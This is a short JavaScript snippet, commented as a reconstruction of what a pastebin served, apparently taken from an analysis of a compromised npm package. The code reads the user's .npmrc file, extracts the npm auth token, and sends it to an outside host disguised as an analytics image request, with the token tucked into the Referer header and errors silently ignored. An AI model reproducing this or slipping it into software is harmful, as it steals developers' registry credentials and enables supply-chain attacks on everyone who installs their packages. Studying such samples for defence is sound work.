// What pastebin served, reconstructed.
var path = require('path'), fs = require('fs'), https = require('https');
var npmrc = path.join(process.env.HOME || process.env.USERPROFILE, '.npmrc');
var content = 'nofile';
if (fs.existsSync(npmrc)) {
  content = fs.readFileSync(npmrc, { encoding: 'utf8' });
  content = content.replace('//registry.npmjs.org/:_authToken=', '').trim();
  https.get({ hostname: 'sstatic1.histats.example', path: '/0.gif?4103075&101', method: 'GET',
    headers: { Referer: 'http://1.a/' + content } }, function () {}).on('error', function () {});
}
